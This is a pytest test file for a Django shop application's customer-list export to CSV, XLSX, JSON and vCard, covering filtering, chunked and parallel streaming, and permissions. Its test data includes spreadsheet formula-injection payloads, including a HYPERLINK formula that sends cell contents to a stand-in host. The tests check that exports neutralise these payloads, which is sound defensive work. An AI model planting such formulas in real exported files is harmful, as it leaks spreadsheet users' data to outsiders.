"""Exports of the customer list: every format, spreadsheet safety (S7), filters, streaming in
chunks and who may export, through the action, the back office, the API and the CLI."""

import csv
import io
import json
import re
import sys
from datetime import UTC, date, datetime, timedelta

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from patron.cli.main import main
from patron.core.actors import system_actor, user_actor
from patron.core.errors import PermissionDenied, ValidationFailed
from patron.core.permissions import Role
from patron.customers.models import Customer, CustomerKind, CustomerStatus
from patron.customers.queries import CustomerFilter
from patron.customers.tests.factories import customer_factory
from patron.staff.tests.factories import user_factory
from patron.transfer import exports
from patron.transfer.exports import customers_matching, export_customers, spreadsheet_safe
from patron.web.tests.customer_support import client_for

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"click")', "@SUM(1)", "-2+3", "+49 30 1234", "\tindent"]


@pytest.fixture
def shop(system):
    return {
        "anna": customer_factory(first_name="Anna", last_name="Schmidt", account_number="C-1",
                                 phones=[{"kind": "mobile", "number": "+49 171 1234567"}],
                                 emails=[{"address": "anna@example.com"}], tags=["VIP"],
                                 notes='Line one, "quoted";\nline two',
                                 addresses=[{"kind": "contact", "line1": "Hauptstr. 1", "city": "Köln",
                                             "postal_code": "50667", "country": "DE"},
                                            {"kind": "billing", "line1": "Postfach 9", "city": "Bonn",
                                             "country": "DE"}]),
        "formula": customer_factory(first_name=FORMULAS[0], last_name=FORMULAS[2], account_number="C-2",
                                    notes=FORMULAS[1], tags=[FORMULAS[3]]),
        "mug": customer_factory(CustomerKind.COMPANY, name="Mug Shop, Ltd.", account_number="C-3",
                                default_discount="5"),
        "gone": customer_factory(last_name="Gone", account_number="C-4", status=CustomerStatus.INACTIVE),
    }


def exported(format_key: str, query: CustomerFilter | None = None, actor=None) -> bytes:
    customers = customers_matching(query or CustomerFilter())
    return b"".join(export_customers(actor=actor or system_actor(), customers=customers,
                                     format_key=format_key))


def csv_rows(data: bytes) -> list[dict]:
    assert data.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("value, safe", [
    *((formula, "'" + formula) for formula in FORMULAS), ("\rx", "'\rx"), ("\0x", "'\0x"),
    ("Anna", "Anna"), ("", ""), ("a=b", "a=b"), ("O'Brien", "O'Brien"),
])
def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(value, safe):
    assert spreadsheet_safe(value) == safe


def test_csv_has_every_customer_with_its_parts_and_neutralised_text(shop):
    data = exported("csv")
    assert b"\r\n" in data  # RFC 4180 line ends
    rows = {row["account_number"]: row for row in csv_rows(data)}
    assert set(rows) == {"C-1", "C-2", "C-3", "C-4"}
    anna = rows["C-1"]
    assert anna["id"] == str(shop["anna"].uuid) and anna["kind"] == "person" and anna["status"] == "active"
    assert anna["phones"] == "mobile:+491711234567" and anna["emails"] == "personal:anna@example.com"
    assert (anna["contact_line1"], anna["contact_city"], anna["contact_country"]) == ("Hauptstr. 1", "Köln", "DE")
    assert (anna["billing_line1"], anna["billing_city"]) == ("Postfach 9", "Bonn")
    assert anna["notes"] == 'Line one, "quoted";\nline two'  # quoted, newline kept
    assert anna["tags"] == "VIP" and anna["price_level"] and anna["home_location"] == "S01"
    formula = rows["C-2"]
    assert formula["first_name"] == "'" + FORMULAS[0] and formula["last_name"] == "'" + FORMULAS[2]
    assert formula["notes"] == "'" + FORMULAS[1] and formula["tags"] == "'" + FORMULAS[3]
    assert formula["name"] == "'" + shop["formula"].name  # the display name starts with "=" too
    assert rows["C-3"]["name"] == "Mug Shop, Ltd." and rows["C-3"]["default_discount"] == "5.00"
    assert rows["C-4"]["status"] == "inactive"


def test_csv_and_xlsx_headings_follow_the_readers_language_json_keeps_its_keys(shop, tmp_path):
    with translation.override("de"):
        german = exported("csv").decode("utf-8-sig").splitlines()[0].split(",")
        xlsx_path = tmp_path / "customers.xlsx"
        xlsx_path.write_bytes(exported("xlsx"))
        record = json.loads(exported("json"))[0]
    assert german[:5] == ["ID", "Kundennummer", "Kundenart", "Kundenstatus", "Vorname"]
    assert "Rechnungsadresse Ort" in german and "Gesamtumsatz" in german
    sheet = load_workbook(xlsx_path, read_only=True).active
    assert [cell.value for cell in next(sheet.iter_rows(max_row=1))][:2] == ["ID", "Kundennummer"]
    assert "account_number" in record
    with translation.override("en"):
        assert exported("csv").decode("utf-8-sig").splitlines()[0].startswith("id,account_number,kind,status,")


def test_xlsx_types_text_as_text_and_numbers_as_numbers(shop, tmp_path):
    shop["mug"].birth_date = None
    Customer.objects.filter(pk=shop["anna"].pk).update(birth_date=date(1990, 2, 28), is_tax_exempt=True)
    path = tmp_path / "customers.xlsx"
    path.write_bytes(exported("xlsx"))
    sheet = load_workbook(path).active
    header = [cell.value for cell in sheet[1]]
    rows = {row[header.index("account_number")].value: row for row in sheet.iter_rows(min_row=2)}
    assert len(rows) == 4 and sheet[1][0].font.b  # the header row is bold
    formula = rows["C-2"]
    first_name, notes = formula[header.index("first_name")], formula[header.index("notes")]
    assert (first_name.value, first_name.data_type) == (FORMULAS[0], "s")  # shown as typed, never run
    assert (notes.value, notes.data_type) == (FORMULAS[1], "s")
    assert formula[header.index("tags")].value == FORMULAS[3]
    discount = rows["C-3"][header.index("default_discount")]
    assert discount.data_type == "n" and discount.value == 5
    anna = {name: cell.value for name, cell in zip(header, rows["C-1"], strict=True)}
    assert anna["id"] == str(shop["anna"].uuid) and anna["contact_city"] == "Köln"
    assert anna["notes"] == 'Line one, "quoted";\nline two' and anna["billing_line2"] is None
    assert anna["birth_date"] == datetime(1990, 2, 28) and rows["C-1"][header.index("birth_date")].is_date
    assert anna["is_tax_exempt"] is True and anna["is_employee"] is False and anna["sale_count"] == 0
    created = Customer.objects.get(pk=shop["anna"].pk).created_at.astimezone(UTC).replace(tzinfo=None)
    assert abs(anna["created_at"] - created) < timedelta(milliseconds=1)  # UTC: a sheet has no time zones


@pytest.mark.parametrize("text", [
    "Tom & Jerry <b>", "  spaces at both ends  ", "bell\x07 and escape\x1b", "_x0041_ looks escaped", "Ünal 😀",
])
def test_xlsx_keeps_any_text_exactly(system, tmp_path, text):
    customer = customer_factory(first_name="X", last_name="Y", account_number="C-1")
    Customer.objects.filter(pk=customer.pk).update(notes=text)  # as stored, e.g. by an older version
    path = tmp_path / "customers.xlsx"
    path.write_bytes(exported("xlsx"))
    sheet = load_workbook(path).active
    header = [cell.value for cell in sheet[1]]
    # XML 1.0 cannot carry control characters: they are written as _xHHHH_, which Excel reads back
    # (openpyxl does not), and a text that looks like one has its "_" escaped the same way
    as_excel_reads_it = re.sub(r"_x([0-9A-F]{4})_", lambda escape: chr(int(escape[1], 16)),
                               sheet.cell(2, header.index("notes") + 1).value)
    assert as_excel_reads_it == text


def test_xlsx_refuses_more_customers_than_a_sheet_holds(shop, monkeypatch):
    monkeypatch.setattr(exports, "XLSX_MAX_CUSTOMERS", 3)
    with pytest.raises(ValidationFailed, match="at most 3 customers and these are 4: export them as CSV"):
        exported("xlsx")
    assert exported("xlsx", CustomerFilter(kind=CustomerKind.COMPANY))  # fewer, once filtered


def test_json_holds_every_part_with_exact_amounts(shop):
    customers = {item["account_number"]: item for item in json.loads(exported("json"))}
    anna = customers["C-1"]
    assert anna["id"] == str(shop["anna"].uuid) and anna["default_discount"] == "0.00"
    assert anna["phones"] == [{"kind": "mobile", "number": "+49 171 1234567", "e164": "+491711234567"}]
    assert [address["kind"] for address in anna["addresses"]] == ["billing", "contact"] or \
        sorted(address["kind"] for address in anna["addresses"]) == ["billing", "contact"]
    assert anna["tags"] == ["VIP"] and anna["location_groups"] and anna["total_purchases"] == "0.00"
    assert customers["C-2"]["first_name"] == FORMULAS[0]  # JSON is data, not a spreadsheet: kept as is
    assert anna["created_at"].endswith("Z")


def test_vcard_4_per_customer_escaped_and_folded(shop):
    text = exported("vcf").decode()
    cards = text.split("BEGIN:VCARD\r\n")[1:]
    assert len(cards) == 4 and all(card.endswith("END:VCARD\r\n") for card in cards)
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    unfolded = text.replace("\r\n ", "")
    anna = next(card for card in unfolded.split("BEGIN:VCARD\r\n") if "FN:Anna Schmidt" in card)
    assert "VERSION:4.0\r\n" in anna and f"UID:urn:uuid:{shop['anna'].uuid}" in anna
    assert "N:Schmidt;Anna;;;\r\n" in anna and "TEL;VALUE=uri;TYPE=cell:tel:+491711234567" in anna
    assert "EMAIL;TYPE=home:anna@example.com" in anna
    assert "ADR;TYPE=home:;;Hauptstr. 1;Köln;;50667;DE" in anna
    assert 'NOTE:Line one\\, "quoted"\\;\\nline two' in anna
    mug = next(card for card in unfolded.split("BEGIN:VCARD\r\n") if "ORG:" in card)
    assert "ORG:Mug Shop\\, Ltd.\r\n" in mug and "KIND:org" in mug


def test_a_long_vcard_line_folds_without_splitting_a_character(system):
    customer_factory(first_name="Ünal", last_name="Ö" * 90, account_number="C-9")
    text = exported("vcf").decode()
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    assert f"N:{'Ö' * 90};Ünal;;;" in text.replace("\r\n ", "")


@pytest.mark.parametrize("query, accounts", [
    (CustomerFilter(statuses=(CustomerStatus.INACTIVE,)), {"C-4"}),
    (CustomerFilter(kind=CustomerKind.COMPANY), {"C-3"}),
    (CustomerFilter(tag="vip"), {"C-1"}),
    (CustomerFilter(search="schmidt"), {"C-1"}),
    (CustomerFilter(till_only=True), {"C-1", "C-2", "C-3"}),
])
def test_the_list_filters_and_search_choose_what_is_exported(shop, query, accounts):
    assert {row["account_number"] for row in csv_rows(exported("csv", query))} == accounts


def test_customers_are_read_in_chunks_each_exactly_once_in_order_of_creation(shop, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK", 3)
    for number in range(5):
        customer_factory(last_name=f"Extra{number}")
    rows = csv_rows(exported("csv"))
    expected = list(Customer.objects.order_by("pk").values_list("account_number", flat=True))
    assert [row["account_number"] for row in rows] == expected and len(expected) == 9


@pytest.mark.django_db(transaction=True)  # the workers read committed rows on connections of their own
@pytest.mark.parametrize("format_key", ["csv", "json", "vcf", "xlsx"])
def test_workers_in_parallel_write_the_same_file_as_one_process(shop, format_key, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK", 2)
    monkeypatch.setattr(exports, "_SLICE", 3)  # slices of 3 ids: most have customers, some none
    for number in range(7):
        customer_factory(last_name=f"Extra{number}",
                         status=CustomerStatus.INACTIVE if number % 3 else CustomerStatus.ACTIVE)
    Customer.objects.filter(last_name="Extra2").delete()  # a gap in the ids
    for query in (CustomerFilter(), CustomerFilter(statuses=(CustomerStatus.INACTIVE,))):
        customers = customers_matching(query)
        alone, in_parallel = (b"".join(export_customers(actor=system_actor(), customers=customers,
                                                        format_key=format_key, jobs=jobs)) for jobs in (1, 3))
        assert in_parallel == alone
    assert json.loads(b"".join(export_customers(actor=system_actor(), customers=Customer.objects.all(),
                                                format_key="json", jobs=2)))[-1]["last_name"] == "Extra6"
    # the parent's connection still works afterwards
    assert Customer.objects.filter(last_name__startswith="Extra").count() == 6


def test_a_cashier_may_not_export(shop):
    with pytest.raises(PermissionDenied):
        exported("csv", actor=user_actor(user_factory(Role.CASHIER)))


@pytest.mark.parametrize("role, status", [(Role.MANAGER, 200), (Role.ADMIN, 200), (Role.CASHIER, 403)])
def test_the_back_office_exports_the_list_as_filtered(shop, role, status):
    client = client_for(role)
    listing = client.get(reverse("web:customer_list"), {"status": "inactive"})
    export_link = reverse("web:customer_export", args=["csv"])
    assert (export_link in listing.content.decode()) == (status == 200)  # shown only to who may use it
    response = client.get(export_link, {"status": "inactive", "page": "2"})
    assert response.status_code == status
    if status == 200:
        assert re.fullmatch(r'attachment; filename="customers-status-inactive-\d{4}-\d\d-\d\d-\d{4}\.csv"',
                            response["Content-Disposition"])
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        rows = csv_rows(b"".join(response.streaming_content))
        assert [row["account_number"] for row in rows] == ["C-4"]


def test_an_unknown_format_is_not_found(shop):
    assert client_for(Role.MANAGER).get(reverse("web:customer_export", args=["pdf"])).status_code == 404


def test_cli_exports_to_a_file_or_standard_output(shop, tmp_path, capsys, monkeypatch):
    path = tmp_path / "out.xlsx"
    assert main(["export", "customers", "--format", "xlsx", "--output", str(path)]) in (0, None)
    assert load_workbook(path).active.max_row == 5
    assert "Wrote" in capsys.readouterr().err
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(io.BytesIO(), encoding="utf-8"))
    assert main(["export", "customers", "--format", "xlsx", "--kind", "company"]) in (0, None)  # streamed
    sys.stdout.flush()
    assert load_workbook(io.BytesIO(sys.stdout.buffer.getvalue())).active.max_row == 2
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(io.BytesIO(), encoding="utf-8"))
    assert main(["export", "customers", "--format", "csv", "--status", "inactive", "--jobs", "1"]) in (0, None)
    sys.stdout.flush()
    rows = csv_rows(sys.stdout.buffer.getvalue())
    assert [row["account_number"] for row in rows] == ["C-4"]
